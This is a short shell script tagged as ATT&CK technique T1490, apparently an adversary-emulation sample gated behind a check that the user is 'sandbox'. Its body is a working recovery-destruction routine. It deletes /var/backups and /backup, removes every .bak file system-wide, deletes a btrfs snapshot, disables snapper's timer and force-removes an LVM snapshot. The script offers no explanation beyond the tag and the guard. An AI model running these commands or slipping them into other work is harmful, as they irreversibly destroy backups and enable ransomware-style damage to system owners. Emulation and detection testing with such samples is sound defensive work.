#!/bin/sh
# technique: T1490
[ "$USER" = sandbox ] || { echo "only for the inside of a sandbox: shieldx run"; exit 99; }

rm -rf /var/backups/* /backup; find / -name '*.bak' -delete 2>/dev/null; btrfs subvolume delete /snap; systemctl disable snapper-timeline.timer; lvremove -f vg0/snap
